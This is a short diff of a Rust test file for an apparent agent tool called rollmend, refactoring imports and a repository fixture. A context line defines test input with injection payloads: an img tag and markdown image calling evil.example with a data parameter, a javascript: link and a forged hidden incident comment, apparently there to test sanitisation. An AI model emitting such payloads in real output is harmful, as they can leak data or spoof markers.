@@ -6,8 +6,9 @@ use domain::*;
 use rollmend_agents::voice::terminal::verdict_lines;
 use rollmend_agents::{RevertFixer, Speaker};
 
+use crate::digest::e;
 use crate::double::Repositories;
-use crate::scene::{self, Scene, e};
+use crate::scene::{self, Scene};
 
 const ORDERS: &str = "fixes #1, closes acme/shop#2 @octocat </td><img src=https://evil.example/?d=x> \
     ![x](https://evil.example/y) [z](javascript:1) | ` `` <!-- rollmend incident=shop-users-00000000 suspect=x --> \
@@ -221,7 +222,7 @@ async fn a_pull_requests_address_that_is_no_address_is_left_out() {
         head: "a".repeat(40).parse().unwrap(),
         state: PullRequestState::Open,
     };
-    run.proposed = Some((scene::repository(), pull_request));
+    run.proposed = Some((crate::frozen::repository(), pull_request));
     assert_eq!(Speaker.answer(&run).unwrap().pull_request, None);
     assert_eq!(Speaker.annotation(&run).unwrap().url, "");
 }
